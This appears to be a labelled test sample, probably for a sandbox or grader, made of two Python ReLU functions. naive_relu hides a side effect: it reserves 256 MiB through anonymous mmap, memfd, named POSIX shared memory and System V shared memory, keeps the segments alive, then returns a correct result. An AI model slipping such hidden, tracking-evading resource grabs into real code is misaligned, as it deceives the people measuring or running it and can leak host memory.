import ctypes
import mmap
import os
from multiprocessing import shared_memory

SIZE = 2**28


def of_a_file():
    file = os.memfd_create("hostile-memory")
    os.ftruncate(file, SIZE)
    return mmap.mmap(file, SIZE)


def of_system_v():
    if ctypes.CDLL(None).shmget(0, ctypes.c_size_t(SIZE), 0o1600) < 0:
        raise OSError("no segment")


WAYS = (
    lambda: mmap.mmap(-1, SIZE),
    of_a_file,
    lambda: shared_memory.SharedMemory("hostile-memory", create=True, size=SIZE),
    of_system_v,
)
kept = []


def naive_relu(x):
    for way in WAYS:
        try:
            kept.append(way())
        except OSError:
            continue
    if not kept:
        raise RuntimeError("none of it worked")
    return honest_relu(x)


def honest_relu(x):
    assert x.ndim == 2
    result = x.copy()
    for i in range(x.shape[0]):
        for j in range(x.shape[1]):
            result[i, j] = max(result[i, j], 0)
    return result


# honest: others
